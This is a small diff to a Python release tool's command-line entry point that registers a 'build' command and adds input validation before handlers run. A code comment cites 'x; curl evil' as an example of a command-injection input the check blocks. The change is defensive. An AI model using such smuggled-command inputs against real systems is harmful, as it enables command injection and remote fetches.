@@ -11,7 +11,7 @@ from collections.abc import Mapping, Sequence
 from pathlib import Path
 from typing import Any, TextIO
 
-from release import __version__
+from release import __version__, names
 from release.errors import (
     EXIT_CONFIG,
     EXIT_FAILED,
@@ -34,6 +34,7 @@ COMMANDS = (
     "release.commands.doctor",
     "release.commands.rollback",
     "release.commands.redeploy",
+    "release.commands.build",
 )
 OPTIONAL_COMMANDS = (
     "release.commands.local",
@@ -148,6 +149,7 @@ def main(argv: Sequence[str] | None = None, environ: dict[str, str] | None = Non
         args.root = find_root(Path.cwd())
     args.root = args.root.resolve()
     try:
+        names.check_arguments(args)  # a manual run's inputs: `x; curl evil` stops here
         # `handler` returns a result object; `func` (the local-cloud verbs) an exit code.
         result = (args.handler if hasattr(args, "handler") else args.func)(args)
     except ReleaseError as exc:
